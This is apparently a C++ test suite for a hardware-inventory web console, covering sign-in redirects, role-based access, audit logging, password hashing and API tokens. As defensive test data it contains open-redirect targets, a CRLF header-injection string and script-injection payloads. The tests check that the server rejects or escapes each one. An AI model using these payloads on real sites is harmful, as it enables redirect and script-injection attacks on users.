        EXPECT_NE(form.body.find("name=\"next\" value=\"/scans/"), std::string::npos);
        EXPECT_EQ(signedIn.status, 303);
        EXPECT_EQ(headerOf(signedIn, "Location"), target);
    }
    // A failed attempt keeps where the form leads.
    {
        const Response form = console_(request("GET", "/signin?next=" + console::urlEncode(target)));
        const std::string body = "token=" + hiddenToken(form.body) + "&name=" + user_ +
                                 "&password=wrong&next=" + console::urlEncode(target);
        const Response failed = console_(request("POST", "/signin", cookiesFrom(form), body));
        EXPECT_EQ(failed.status, 401);
        EXPECT_NE(failed.body.find("name=\"next\" value=\"" + target + "\""), std::string::npos);
    }
    const std::vector<std::string> hostile = {
        "//evil.example/",
        "/\\evil.example/",
        "https://evil.example/",
        "http:/evil.example",
        "javascript:alert(1)",
        "evil.example",
        "/machines\r\nSet-Cookie: x=y",
        "/machines\nx",
        std::string("/machines") + '\0',
        "/machines\x01",
        "/machines\x7f",
        "/ma chines",
        "/m\u00e4chines",
        "/" + std::string(3000, 'a'),
        "/signin",
        "/signin?next=/machines",
        "/signout",
        "",
    };
    for (const auto& next : hostile) {
        const auto [form, signedIn] = signInVia("?next=" + console::urlEncode(next), "&next=" + console::urlEncode(next));
        EXPECT_EQ(form.body.find("name=\"next\""), std::string::npos) << console::urlEncode(next);
        EXPECT_EQ(signedIn.status, 303) << console::urlEncode(next);
        EXPECT_EQ(headerOf(signedIn, "Location"), "/machines") << console::urlEncode(next);
    }
    // Nor does a page asked for with such an address send it on to the form.
    EXPECT_EQ(headerOf(console_(request("GET", "/" + std::string(3000, 'a'))), "Location"), "/signin");
}

// Who may reach what: one row per address and method, with the status an anonymous client,
// a viewer and an admin get. Viewers read machines, scans and exports; admins also change
// data and read the users and the audit log. A POST carries the session's own form token.
TEST_P(ConsoleTest, EachRouteAnswersEachRoleAsItsRowSays) {
    const std::string admin = signIn();
    const std::string viewer = signInAs("vera-" + prefix_, storage::Role::Viewer);
    const std::string m = std::to_string(machineOf("workstation, first scan"));
    const std::string s = std::to_string(scanOf("workstation, module moved and disk replaced"));
    const std::string o = std::to_string(scanOf("workstation, first scan"));
    struct Route {
        const char* method;
        std::string path;
        int anonymous, viewer, admin;
    };
    const Route routes[] = {
        {"GET", "/machines", 303, 200, 200},
        {"GET", "/machines?q=Dell", 303, 200, 200},
        {"GET", "/machines/" + m, 303, 200, 200},
        {"GET", "/scans/" + s, 303, 200, 200},
        {"GET", "/diff?a=" + o + "&b=" + s, 303, 200, 200},
        {"GET", "/machines.csv", 401, 200, 200},
        {"GET", "/changes", 303, 200, 200},
        {"GET", "/changes?component=memory&change=moved&since=2026-01-01", 303, 200, 200},
        {"GET", "/changes.csv", 401, 200, 200},
        {"GET", "/changes.json?machine=" + m, 401, 200, 200},
        {"GET", "/scans/" + s + ".json", 401, 200, 200},
        {"GET", "/scans/" + s + "/report", 401, 200, 200},
        {"GET", "/scans/" + s + "/report.xml", 401, 200, 200},
        {"GET", "/users", 303, 403, 200},
        {"GET", "/audit", 303, 403, 200},
        {"GET", "/audit?action=export&before=5", 303, 403, 200},
        {"HEAD", "/users", 303, 403, 200},
        {"GET", "/machines/" + m + "/delete", 303, 403, 200},
        {"GET", "/conflicts", 303, 403, 200},
        {"GET", "/placeholders", 303, 403, 200},
        {"GET", "/tokens", 303, 403, 200},
        {"POST", "/tokens/revoke", 303, 403, 404},
        {"POST", "/placeholders/delete", 303, 403, 303},
        {"GET", "/webhooks", 303, 403, 200},
        {"POST", "/webhooks/retry", 303, 403, 400},
        {"POST", "/scans/" + o + "/accept", 303, 403, 303},
        {"POST", "/users", 303, 403, 405},
        {"GET", "/scans/" + o + "/accept", 303, 405, 405},
        {"POST", "/signout", 303, 303, 303},
    };
    for (const Route& route : routes) {
        const std::pair<std::string, int> sessions[] = {{"", route.anonymous}, {viewer, route.viewer}, {admin, route.admin}};
        for (const auto& [cookie, status] : sessions) {
            const std::string who = cookie.empty() ? "anonymous" : cookie == viewer ? "viewer" : "admin";
            // Signing out ends the session: each signs in again for that row.
            const std::string jar =
                cookie.empty() || route.path != "/signout"
                    ? cookie
                    : trySignIn(console_, cookie == viewer ? "vera-" + prefix_ : user_, "correct+horse+battery+staple")
                          .sessionCookie;
            const std::string body = route.method == std::string("POST") && !jar.empty() ? "token=" + formTokenOf(jar) : "";
            const Response r = console_(request(route.method, route.path, jar, body));
            EXPECT_EQ(r.status, status) << route.method << " " << route.path << " as " << who;
            if (status == 403) {
                EXPECT_NE(r.body.find("For admins only"), std::string::npos) << route.path << " as " << who;
                EXPECT_NE(r.body.find("<span class=\"role\">viewer</span>"), std::string::npos) << route.path;
            }
            if (cookie.empty() && status == 303) {
                // A page asked for leads back to itself after signing in.
                const std::string path = route.path;
                const bool comesBack = route.method != std::string("POST") && path != "/" && path != "/machines";
                EXPECT_EQ(headerOf(r, "Location"), comesBack ? "/signin?next=" + console::urlEncode(path) : "/signin")
                    << route.path;
            }
        }
    }
    // Each page names who is signed in and the role; only an admin's links to the admin pages.
    const std::string adminPage = console_(request("GET", "/machines", admin)).body;
    const std::string viewerPage = console_(request("GET", "/machines", viewer)).body;
    EXPECT_NE(adminPage.find("<bdi>" + user_ + "</bdi></strong> <span class=\"role\">admin</span>"), std::string::npos);
    EXPECT_NE(viewerPage.find("<bdi>vera-" + prefix_ + "</bdi></strong> <span class=\"role\">viewer</span>"),
              std::string::npos);
    EXPECT_NE(adminPage.find("href=\"/audit\""), std::string::npos);
    EXPECT_EQ(viewerPage.find("href=\"/audit\""), std::string::npos);
    EXPECT_EQ(viewerPage.find("href=\"/users\""), std::string::npos);
}

// A viewer cannot accept a conflicting scan, even with its own form token; its page offers
// no button for it.
TEST_P(ConsoleTest, AViewerSeesAConflictingScanButCannotAcceptIt) {
    const std::string viewer = signInAs("vera-" + prefix_, storage::Role::Viewer);
    const auto forged = forgedClaim();
    ASSERT_TRUE(forged.conflicting);
    const std::string scanPath = "/scans/" + std::to_string(forged.scanId);
    const Response page = console_(request("GET", scanPath, viewer));
    EXPECT_NE(page.body.find("Conflicting hardware."), std::string::npos);
    EXPECT_EQ(page.body.find("action=\"" + scanPath + "/accept\""), std::string::npos);
    EXPECT_EQ(console_(request("POST", scanPath + "/accept", viewer, "token=" + formTokenOf(viewer))).status, 403);
    EXPECT_EQ(store_->scan(forged.scanId)->row.conflict, storage::ScanConflict::Conflicting);
    EXPECT_TRUE(auditOf("vera-" + prefix_, "scan-accepted").empty());
}

// Disabling, deleting and a new password end a signed-in account's sessions at once: its
// very next request is sent to sign in. A new role counts from the next request.
TEST_P(ConsoleTest, AccountChangesReachSignedInSessionsOnTheirNextRequest) {
    const std::string name = "bob-" + prefix_;
    struct Change {
        const char* what;
        std::function<void()> make;
    };
    const Change changes[] = {
        {"disabled", [&] { ASSERT_TRUE(store_->setAccountDisabled(name, true)); }},
        {"deleted", [&] { ASSERT_TRUE(store_->deleteAccount(name)); }},
        {"new password",
         [&] { console::addUser(*store_, name, "a brand new password", storage::Role::Viewer, console::PasswordCost::Interactive); }},
    };
    const std::string bystander = signIn();
    for (const Change& change : changes) {
        if (store_->account(name)) {
            ASSERT_TRUE(store_->deleteAccount(name));
        }
        const std::string cookie = signInAs(name, storage::Role::Viewer);
        ASSERT_EQ(console_(request("GET", "/machines", cookie)).status, 200) << change.what;
        change.make();
        const Response page = console_(request("GET", "/machines", cookie));
        EXPECT_EQ(page.status, 303) << change.what;
        EXPECT_EQ(headerOf(page, "Location"), "/signin") << change.what;
        EXPECT_EQ(console_(request("GET", "/machines.csv", cookie)).status, 401) << change.what;
        EXPECT_EQ(trySignIn(console_, name, "correct+horse+battery+staple").response.status, 401) << change.what;
        EXPECT_EQ(console_(request("GET", "/machines", bystander)).status, 200) << "another account, " << change.what;
    }
    // Enabled again: the old session stays ended, a new sign-in works.
    if (store_->account(name)) {
        ASSERT_TRUE(store_->deleteAccount(name));
    }
    const std::string before = signInAs(name, storage::Role::Viewer);
    ASSERT_TRUE(store_->setAccountDisabled(name, true));
    ASSERT_TRUE(store_->setAccountDisabled(name, false));
    EXPECT_EQ(console_(request("GET", "/machines", before)).status, 303);
    const std::string after = signInAs(name, storage::Role::Viewer);
    EXPECT_EQ(console_(request("GET", "/users", after)).status, 403);
    ASSERT_TRUE(store_->setAccountRole(name, storage::Role::Admin));
    EXPECT_EQ(console_(request("GET", "/users", after)).status, 200) << "promoted on the next request";
    ASSERT_TRUE(store_->setAccountRole(name, storage::Role::Viewer));
    EXPECT_EQ(console_(request("GET", "/users", after)).status, 403) << "demoted on the next request";
}

TEST_P(ConsoleTest, UsersPageShowsEachAccountsRoleStateAndLastSignIn) {
    const std::string cookie = signIn();
    const std::string viewer = "vera-" + prefix_, idle = "ivan-" + prefix_;
    signInAs(viewer, storage::Role::Viewer);
    console::addUser(*store_, idle, kPassword, storage::Role::Viewer, console::PasswordCost::Interactive);
    ASSERT_TRUE(store_->setAccountDisabled(idle, true));
    const Response page = console_(request("GET", "/users", cookie));
    ASSERT_EQ(page.status, 200);
    const auto row = [&](const std::string& name) {
        const auto at = page.body.find("<bdi>" + name + "</bdi>", page.body.find("<tbody>"));
        return at == std::string::npos ? std::string() : page.body.substr(at, page.body.find("</tr>", at) - at);
    };
    const std::string signedIn = displayTimeOf(kStart);
    EXPECT_NE(row(user_).find("<td>admin</td>"), std::string::npos) << row(user_);
    EXPECT_NE(row(user_).find(signedIn), std::string::npos) << row(user_);
    EXPECT_NE(row(viewer).find("<td>viewer</td>"), std::string::npos) << row(viewer);
    EXPECT_NE(row(viewer).find("<td>enabled</td>"), std::string::npos) << row(viewer);
    EXPECT_NE(row(idle).find("disabled</span>"), std::string::npos) << row(idle);
    EXPECT_NE(row(idle).find("never"), std::string::npos) << row(idle);
    EXPECT_EQ(store_->account(viewer)->lastSignInMs, kStart);
}

// Every sign-in, failed or throttled sign-in, view, export, acceptance and sign-out is in the
// log with who, what and the client's address. The name tried at a failed sign-in is the
// client's text: kept as a target, never as an actor that could pose as someone else.
TEST_P(ConsoleTest, SignInsViewsExportsAndAcceptancesAreAudited) {
    const std::string address = "198.51.100.7";
    const std::string cookie = signIn();
    const auto scan = scanOf("workstation, first scan");
    const auto later = scanOf("workstation, module moved and disk replaced");
    const auto machine = machineOf("workstation, first scan");
    const std::string m = std::to_string(machine), s = std::to_string(scan), l = std::to_string(later);
    // The machine's page shows its latest scan (in a shared database, maybe another test's).
    const std::string latest = std::to_string(store_->machine(machine)->latestScanId);
    ASSERT_EQ(console_(request("GET", "/machines/" + m, cookie)).status, 200);
    ASSERT_EQ(console_(request("GET", "/scans/" + s, cookie)).status, 200);
    ASSERT_EQ(console_(request("GET", "/diff?a=" + s + "&b=" + l, cookie)).status, 200);
    ASSERT_EQ(console_(request("GET", "/machines.csv?q=Precision&sort=model", cookie)).status, 200);
    ASSERT_EQ(console_(request("GET", "/scans/" + s + "/report", cookie)).status, 200);
    ASSERT_EQ(console_(request("GET", "/scans/" + s + "/report.xml", cookie)).status, 200);
    ASSERT_EQ(console_(request("GET", "/scans/" + s + ".json", cookie)).status, 200);
    ASSERT_EQ(console_(request("GET", "/scans/99999999.json", cookie)).status, 404);
    ASSERT_EQ(console_(request("GET", "/machines", cookie)).status, 200);
    const auto forged = forgedClaim();
    ASSERT_TRUE(forged.conflicting);
    const std::string f = std::to_string(forged.scanId);
    ASSERT_EQ(console_(request("POST", "/scans/" + f + "/accept", cookie, "token=" + formTokenOf(cookie))).status, 303);
    ASSERT_EQ(console_(request("POST", "/signout", cookie, "token=" + formTokenOf(cookie))).status, 303);

    struct Expected {
        std::string action, target, detail;
    };
    // Oldest first, as they were made (the list page is not a view of a machine).
    const std::vector<Expected> expected = {
        {"sign-in", "user " + user_, ""},
        {"machine-viewed", "machine " + m + ", scan " + latest, ""},
        {"machine-viewed", "machine " + m + ", scan " + s, ""},
        {"machine-viewed", "machine " + m + ", scans " + s + " and " + l, "changes between two scans"},
        {"export", "machines.csv", "search \"Precision\", sorted by model"},
        {"export", "scan " + s + ", machine " + m, "report as sent"},
        {"export", "scan " + s + ", machine " + m, "report as UTF-8 XML"},
        {"export", "scan " + s + ", machine " + m, "JSON"},
        {"scan-accepted", "scan " + f + ", machine " + std::to_string(forged.machineId), "now the machine's latest scan"},
        {"sign-out", "user " + user_, ""},
    };
    auto entries = auditOf(user_);
    std::reverse(entries.begin(), entries.end());
    // formTokenOf reads /machines: no entry. The sign-in of formTokenOf's session is the first.
    ASSERT_EQ(entries.size(), expected.size());
    for (std::size_t i = 0; i < expected.size(); ++i) {
        EXPECT_EQ(entries[i].action, expected[i].action) << i;
        EXPECT_EQ(entries[i].target, expected[i].target) << i;
        EXPECT_EQ(entries[i].detail, expected[i].detail) << i;
        EXPECT_EQ(entries[i].address, address) << i;
        EXPECT_EQ(entries[i].atMs, kStart) << i;
        if (i > 0) {
            EXPECT_GT(entries[i].id, entries[i - 1].id) << i;
        }
    }

    // Failed and throttled sign-ins, from another address: the name tried, whatever it is.
    const std::string hostile = "<script>window.__gravelinPwned=8</script>" + prefix_;
    const std::string hostileForm = "%3Cscript%3Ewindow.__gravelinPwned%3D8%3C%2Fscript%3E" + prefix_;
    EXPECT_EQ(trySignIn(console_, hostileForm, "wrong", "203.0.113.9").response.status, 401);
    EXPECT_EQ(trySignIn(console_, "cli:root", "wrong", "203.0.113.9").response.status, 401);
    for (int i = 0; i < 4; ++i) trySignIn(console_, user_, "wrong", "203.0.113.9");
    EXPECT_EQ(trySignIn(console_, user_, "wrong", "203.0.113.9").response.status, 429);
    storage::AuditQuery failed;
    failed.action = "sign-in-failed";
    failed.limit = 10000;
    bool sawHostile = false, sawPosing = false;
    for (const auto& e : store_->auditEntries(failed)) {
        if (e.target == "user " + hostile) {
            sawHostile = true;
            EXPECT_EQ(e.actor, "-") << "not a name an account can have";
            EXPECT_EQ(e.address, "203.0.113.9");
        }
        if (e.target == "user cli:root" && e.address == "203.0.113.9") {
            sawPosing = true;
            EXPECT_EQ(e.actor, "-") << "no client poses as the command line";
        }
    }
    EXPECT_TRUE(sawHostile);
    EXPECT_TRUE(sawPosing);
    EXPECT_EQ(auditOf(user_, "sign-in-failed").size(), 4u);
    const auto throttled = auditOf(user_, "sign-in-throttled");
    ASSERT_EQ(throttled.size(), 1u);
    EXPECT_EQ(throttled[0].address, "203.0.113.9");
    EXPECT_EQ(throttled[0].detail, "too many failures: locked for 1 s");
    EXPECT_TRUE(storage::audit::kActions.end() !=
                std::find(storage::audit::kActions.begin(), storage::audit::kActions.end(), throttled[0].action));
}

// Behind the trusted proxy the entry holds the client's address, not the proxy's.
TEST_P(ConsoleTest, AuditEntriesBehindTheProxyHoldTheClientsAddress) {
    const server::Handler console = makeConsole("the console's secret", [](console::ConsoleOptions& o) {
        o.trustedProxy = "10.0.0.5";
    });
    const Attempt attempt = trySignIn(console, user_, "correct+horse+battery+staple", "10.0.0.5",
                                      {{"x-forwarded-for", "192.0.2.1, 203.0.113.50"}});
    ASSERT_EQ(attempt.response.status, 303);
    const auto entries = auditOf(user_, "sign-in");
    ASSERT_EQ(entries.size(), 1u);
    EXPECT_EQ(entries[0].address, "203.0.113.50");
}

// The audit page: filters by action, actor and period (UTC days, the last one included),
// pages of 100 by entry id with an "older" link that keeps the filters, bad filters refused
// with a word, and hostile text escaped and cut on display.
TEST_P(ConsoleTest, AuditPageFiltersAndPagesOlderEntries) {
    const std::string cookie = signIn();
    const std::string actor = "paging-" + prefix_;
    const std::int64_t day = *server::utcDayStartMs("2026-03-10");
    for (int i = 0; i < 230; ++i) {
        storage::AuditEntry e;
        e.atMs = day + (i < 200 ? 0 : server::kDayMs) + i;  // 200 on the 10th, 30 on the 11th
        e.actor = actor;
        e.action = i % 2 == 0 ? "export" : "machine-viewed";
        e.target = "entry-" + std::to_string(i);
        e.address = "192.0.2.4";
        store_->appendAudit(e);
    }
    const auto rows = [](const std::string& html) { return count(html, "<time datetime=\"2026-03-1"); };
    const auto href = [](const std::string& html, const std::string& label) {
        std::smatch m;
        if (!std::regex_search(html, m, std::regex("href=\"([^\"]*)\">" + label))) return std::string();
        return std::regex_replace(std::string(m[1]), std::regex("&amp;"), "&");
    };
    const Response first = console_(request("GET", "/audit?actor=" + actor, cookie));
    ASSERT_EQ(first.status, 200);
    EXPECT_EQ(rows(first.body), 100u);
    EXPECT_NE(first.body.find("entry-229<"), std::string::npos) << "newest first";
    EXPECT_EQ(first.body.find("entry-129<"), std::string::npos);
    const std::string olderHref = href(first.body, "Older");
    ASSERT_FALSE(olderHref.empty());
    EXPECT_NE(olderHref.find("actor=" + actor), std::string::npos) << olderHref;
    const Response second = console_(request("GET", olderHref, cookie));
    EXPECT_EQ(rows(second.body), 100u);
    EXPECT_NE(second.body.find("entry-129<"), std::string::npos);
    EXPECT_NE(second.body.find("entry-30<"), std::string::npos);
    EXPECT_EQ(second.body.find("entry-229<"), std::string::npos);
    EXPECT_FALSE(href(second.body, "« Newest").empty());
    const Response third = console_(request("GET", href(second.body, "Older"), cookie));
    EXPECT_EQ(rows(third.body), 30u);
    EXPECT_TRUE(href(third.body, "Older").empty()) << "the oldest page";

    struct Filter {
        std::string query;
        std::size_t rows;
        int status;
    };
    const Filter filters[] = {
        {"&action=export&since=2026-03-11", 15, 200},
        {"&until=2026-03-10&action=machine-viewed", 100, 200},
        {"&since=2026-03-10&until=2026-03-10", 100, 200},
        {"&since=2026-03-12", 0, 200},
        {"&until=2026-03-09", 0, 200},
        {"&since=2026-03-11&until=2026-03-10", 0, 400},
        {"&since=10.03.2026", 0, 400},
        {"&until=2026-02-30", 0, 400},
        {"&action=no-such-action", 0, 400},
    };
    for (const Filter& filter : filters) {
        const Response r = console_(request("GET", "/audit?actor=" + actor + filter.query, cookie));
        EXPECT_EQ(r.status, filter.status) << filter.query;
        EXPECT_EQ(rows(r.body), filter.rows) << filter.query;
        if (filter.status == 400) {
            EXPECT_NE(r.body.find("class=\"alert\""), std::string::npos) << filter.query;
        }
    }
    const Response selected = console_(request("GET", "/audit?action=export", cookie));
    EXPECT_NE(selected.body.find("<option value=\"export\" selected>"), std::string::npos);

    // A failed sign-in with a long hostile name: escaped, and cut on the page.
    const std::string hostile = "<img src=x onerror=window.__gravelinPwned=9>" + prefix_ + std::string(3000, 'A');
    trySignIn(console_, "%3Cimg+src%3Dx+onerror%3Dwindow.__gravelinPwned%3D9%3E" + prefix_ + std::string(3000, 'A'),
              "wrong", "203.0.113.10");
    const Response log = console_(request("GET", "/audit?action=sign-in-failed", cookie));
    ASSERT_EQ(log.status, 200);
    EXPECT_EQ(log.body.find("<img"), std::string::npos);
    const auto at = log.body.find("user &lt;img src=x onerror=window.__gravelinPwned=9&gt;" + prefix_);
    ASSERT_NE(at, std::string::npos);
    const std::string cell = log.body.substr(at, log.body.find("</bdi>", at) - at);
    EXPECT_LT(cell.size(), 400u) << "cut on display";
    EXPECT_TRUE(cell.ends_with("…")) << cell.substr(cell.size() - 20);
}

// An answer whose audit entry cannot be written is not given: the page, the export or the
// sign-in fails with 503 instead of leaving a hole in the log.
TEST(ConsoleAudit, AnAnswerWhoseEntryCannotBeWrittenIsNotGiven) {
    class FailingAudit : public MemoryStore {
    public:
        std::atomic<bool> fail{false};
        void appendAudit(const storage::AuditEntry& entry) override {
            if (fail) throw storage::StorageUnavailable("the audit table is gone");
            MemoryStore::appendAudit(entry);
        }
    };
    FailingAudit store;
    console::addUser(store, "alice", kPassword, storage::Role::Admin, console::PasswordCost::Interactive);
    const auto added = store.addScan(newScan(seeds()[0].sealed, kStart));
    console::ConsoleOptions options;
    options.passwordCost = console::PasswordCost::Interactive;
    const server::Handler console = console::makeConsole(store, options);
    const auto signIn = [&]() {
        Request get;
        get.method = "GET";
        get.path = "/signin";
        get.remoteAddress = "198.51.100.7";
        const Response form = console(get);
        std::smatch m;
        std::regex_search(form.body, m, std::regex("name=\"token\" value=\"([^\"]*)\""));
        const std::string setCookie = headerOf(form, "Set-Cookie");
        Request post = get;
        post.method = "POST";
        post.headers.emplace_back("cookie", setCookie.substr(0, setCookie.find(';')));
        post.body = "token=" + std::string(m[1]) + "&name=alice&password=correct+horse+battery+staple";
        return console(post);
    };
    store.fail = true;
    const Response refused = signIn();
    EXPECT_EQ(refused.status, 503);
    EXPECT_TRUE(headerOf(refused, "Set-Cookie").empty()) << "no session without its entry";
    store.fail = false;
    const Response signedIn = signIn();
    ASSERT_EQ(signedIn.status, 303);
    std::string session;
    for (const auto& value : headersOf(signedIn, "Set-Cookie"))
        if (value.starts_with("__Host-gravelin-session=")) session = value.substr(0, value.find(';'));
    ASSERT_FALSE(session.empty());
    store.fail = true;
    for (const std::string& path : std::vector<std::string>{"/machines/" + std::to_string(added.machineId), "/scans/" + std::to_string(added.scanId),
                                   "/scans/" + std::to_string(added.scanId) + ".json",
                                   "/scans/" + std::to_string(added.scanId) + "/report", "/machines.csv"}) {
        Request get;
        get.method = "GET";
        get.path = path;
        get.remoteAddress = "198.51.100.7";
        get.headers.emplace_back("cookie", session);
        const Response r = console(get);
        EXPECT_EQ(r.status, 503) << path;
        EXPECT_EQ(r.body.find("Precision"), std::string::npos) << path;
        EXPECT_EQ(r.body.find("7TQCK2J"), std::string::npos) << path;
    }
}

TEST(ConsoleAccounts, AddUserRefusesBadNamesAndShortPasswordsAndHashesWithArgon2id) {
    MemoryStore store;
    EXPECT_THROW(console::addUser(store, "", "long enough", storage::Role::Admin, console::PasswordCost::Interactive), std::invalid_argument);
    EXPECT_THROW(console::addUser(store, "a b", "long enough", storage::Role::Admin, console::PasswordCost::Interactive), std::invalid_argument);
    EXPECT_THROW(console::addUser(store, "<x>", "long enough", storage::Role::Admin, console::PasswordCost::Interactive), std::invalid_argument);
    EXPECT_THROW(console::addUser(store, std::string(65, 'a'), "long enough", storage::Role::Admin, console::PasswordCost::Interactive),
                 std::invalid_argument);
    EXPECT_THROW(console::addUser(store, "bob", "short", storage::Role::Admin, console::PasswordCost::Interactive), std::invalid_argument);
    EXPECT_FALSE(store.account("bob").has_value());
    console::addUser(store, "bob", "long enough", storage::Role::Admin, console::PasswordCost::Interactive);
    const auto bob = store.account("bob");
    ASSERT_TRUE(bob.has_value());
    EXPECT_TRUE(bob->passwordHash.starts_with("$argon2id$v=19$m=65536,t=2,"));
    EXPECT_TRUE(console::verifyPassword(bob->passwordHash, "long enough"));
    EXPECT_FALSE(console::verifyPassword(bob->passwordHash, "long enougH"));
    EXPECT_FALSE(console::verifyPassword("garbage", "long enough"));
    // Salted: the same password twice gives two hashes.
    console::addUser(store, "carol", "long enough", storage::Role::Admin, console::PasswordCost::Interactive);
    EXPECT_NE(store.account("carol")->passwordHash, bob->passwordHash);
    EXPECT_TRUE(console::hashPassword("x").starts_with("$argon2id$v=19$m=262144,t=3,"));
}

// ---- the API ----

// A token of this test's own (the database may be shared), issued at `atMs` for `days`.
std::string issueToken(storage::Store& store, const std::string& name, storage::Role role,
                       std::int64_t atMs = kStart, std::uint32_t days = 0) {
    storage::AuditEntry audit{0, atMs, "cli:test", std::string(storage::audit::kTokenAdded), "token " + name, "", ""};
    const auto issued = console::issueApiToken(store, name, role, days, atMs, audit);
    if (!issued) throw std::runtime_error("token name taken: " + name);
    return issued->token;
}

Request apiRequest(const std::string& target, const std::string& authorization,
                   const std::string& cookie = {}, const std::string& method = "GET") {
    Request r;
    r.method = method;
    const auto q = target.find('?');
    r.path = target.substr(0, q);
    if (q != std::string::npos) r.query = target.substr(q + 1);
    if (!authorization.empty()) r.headers.emplace_back("authorization", authorization);
    if (!cookie.empty()) r.headers.emplace_back("cookie", cookie);
    r.remoteAddress = "198.51.100.9";
    return r;
}

// The error code of a JSON error answer; empty when the body is not one.
std::string errorCode(const Response& r) {
    const auto body = nlohmann::json::parse(r.body, nullptr, false);
    if (!body.is_object() || !body.contains("error") || !body["error"].is_object()) return {};
    return body["error"].value("code", "");
}

TEST_P(ConsoleTest, TheApiAnswersEachCredentialAsItsRowSays) {
    const std::string viewer = issueToken(*store_, "viewer-" + prefix_, storage::Role::Viewer);
    const std::string admin = issueToken(*store_, "admin-" + prefix_, storage::Role::Admin);
    // Issued three days ago for one day.
    const std::string expired =
        issueToken(*store_, "expired-" + prefix_, storage::Role::Viewer, kStart - 3 * 86400000LL, 1);
    const std::string revoked = issueToken(*store_, "revoked-" + prefix_, storage::Role::Admin);
    ASSERT_EQ(store_->revokeApiToken("revoked-" + prefix_, kStart, {0, kStart, "cli:test", "token-revoked", "t", "", ""}),
              storage::TokenRevocation::Revoked);
    // A token of the right shape that was never issued, and one with a byte changed.
    std::string unknown = viewer;
    unknown.back() = unknown.back() == 'A' ? 'B' : 'A';
    const std::string session = signIn();

    struct Row {
        const char* what;
        std::string authorization, cookie;
        int status;
        const char* code;  // empty: a 200 answer
    };
    const Row rows[] = {
        {"no header", "", "", 401, "token_missing"},
        {"a session cookie alone", "", session, 401, "token_missing"},
        {"another scheme", "Basic " + viewer, "", 401, "token_malformed"},
        {"no blank", "Bearer" + viewer, "", 401, "token_malformed"},
        {"a truncated token", "Bearer " + viewer.substr(0, viewer.size() - 1), "", 401, "token_malformed"},
        {"two tokens", "Bearer " + viewer + " " + admin, "", 401, "token_malformed"},
        {"unknown", "Bearer " + unknown, "", 401, "token_invalid"},
        {"expired", "Bearer " + expired, "", 401, "token_expired"},
        {"revoked", "Bearer " + revoked, "", 401, "token_revoked"},
        {"viewer", "Bearer " + viewer, "", 200, ""},
        {"viewer, lower-case scheme", "bearer " + viewer, "", 200, ""},
        {"admin", "Bearer " + admin, "", 200, ""},
    };
    for (const Row& row : rows) {
        SCOPED_TRACE(row.what);
        const Response r = console_(apiRequest("/api/v1/machines", row.authorization, row.cookie));
        EXPECT_EQ(r.status, row.status) << r.body;
        EXPECT_EQ(errorCode(r), row.code);
        EXPECT_EQ(headerOf(r, "Content-Type"), "application/json");
        EXPECT_EQ(headerOf(r, "Cache-Control"), "no-store");
        EXPECT_TRUE(nlohmann::json::accept(r.body));
        const std::string challenge = headerOf(r, "WWW-Authenticate");
        if (row.status == 401) {
            EXPECT_TRUE(challenge.starts_with("Bearer ")) << challenge;
            // RFC 6750: no error attribute when no token was given.
            EXPECT_EQ(challenge.find("invalid_token") != std::string::npos, std::string(row.code) != "token_missing");
        } else {
            EXPECT_EQ(challenge, "");
            EXPECT_EQ(nlohmann::json::parse(r.body)["total"], store_->machines({}).total);
        }
    }
    // The document needs no token; a token does not open the console's pages either.
    const Response document = console_(apiRequest("/api/v1/openapi.json", ""));
    EXPECT_EQ(document.status, 200);
    EXPECT_EQ(nlohmann::json::parse(document.body)["openapi"], "3.1.0");
    EXPECT_EQ(console_(apiRequest("/machines", "Bearer " + viewer)).status, 303);
    // Only the hash is stored.
    for (const auto& t : store_->apiTokens()) {
        EXPECT_EQ(t.tokenHash.find(viewer.substr(5)), std::string::npos);
        EXPECT_EQ(t.tokenHash.size(), 64u);
    }
    EXPECT_TRUE(viewer.starts_with(console::kApiTokenPrefix));
    EXPECT_NE(viewer, admin);
}

TEST_P(ConsoleTest, ATokenPastItsBudgetIsAnswered429WithRetryAfterAndOthersAreNot) {
    const auto console = makeConsole("the console's secret", [](console::ConsoleOptions& o) {
        o.apiRequestsPerMinute = 60;  // one a second
        o.apiBurst = 3;
    });
    const std::string busy = "Bearer " + issueToken(*store_, "busy-" + prefix_, storage::Role::Viewer);
    const std::string calm = "Bearer " + issueToken(*store_, "calm-" + prefix_, storage::Role::Viewer);
    for (int i = 0; i < 3; ++i) EXPECT_EQ(console(apiRequest("/api/v1/survey", busy)).status, 200) << i;
    const Response refused = console(apiRequest("/api/v1/survey", busy));
    EXPECT_EQ(refused.status, 429);
    EXPECT_EQ(errorCode(refused), "rate_limited");
    EXPECT_EQ(headerOf(refused, "Retry-After"), "1");
    EXPECT_EQ(headerOf(refused, "Cache-Control"), "no-store");
    EXPECT_EQ(console(apiRequest("/api/v1/survey", calm)).status, 200) << "each token has its own budget";
    // Refusals earn nothing back: still refused until a second has passed.
    EXPECT_EQ(console(apiRequest("/api/v1/survey", busy)).status, 429);
    now_ += 999;
    EXPECT_EQ(console(apiRequest("/api/v1/survey", busy)).status, 429);
    now_ += 1;
    EXPECT_EQ(console(apiRequest("/api/v1/survey", busy)).status, 200);
    EXPECT_EQ(console(apiRequest("/api/v1/survey", busy)).status, 429);
    // Refused credentials cost no token's budget.
    for (int i = 0; i < 5; ++i) EXPECT_EQ(console(apiRequest("/api/v1/survey", "Bearer grvt_x")).status, 401);
}

TEST_P(ConsoleTest, ApiUsesAreAuditedOncePerTokenPerMinuteWithTheCountBetween) {
    const std::string name = "audited-" + prefix_;
    const std::string token = "Bearer " + issueToken(*store_, name, storage::Role::Viewer);
    const std::string other = "other-" + prefix_;
    const std::string otherToken = "Bearer " + issueToken(*store_, other, storage::Role::Viewer);
    const std::string actor = "token:" + name;
    EXPECT_GE(auditOf("cli:test", std::string(storage::audit::kTokenAdded)).size(), 2u);
    for (int i = 0; i < 5; ++i) {
        ASSERT_EQ(console_(apiRequest("/api/v1/machines", token)).status, 200);
        now_ += 1000;
    }
    EXPECT_EQ(console_(apiRequest("/api/v1/machines", otherToken)).status, 200);
    auto entries = auditOf(actor);
    ASSERT_EQ(entries.size(), 1u) << "one entry for the minute";
    EXPECT_EQ(entries[0].action, storage::audit::kApiUsed);
    EXPECT_EQ(entries[0].target, "GET /api/v1/machines");
    EXPECT_EQ(entries[0].address, "198.51.100.9");
    EXPECT_EQ(entries[0].atMs, kStart);
    EXPECT_EQ(auditOf("token:" + other).size(), 1u) << "each token has its own minute";
    // A request the API answers with an error is a use all the same.
    EXPECT_EQ(console_(apiRequest("/api/v1/machines/x", token)).status, 400);
    now_ = kStart + 60000;
    ASSERT_EQ(console_(apiRequest("/api/v1/survey", token)).status, 200);
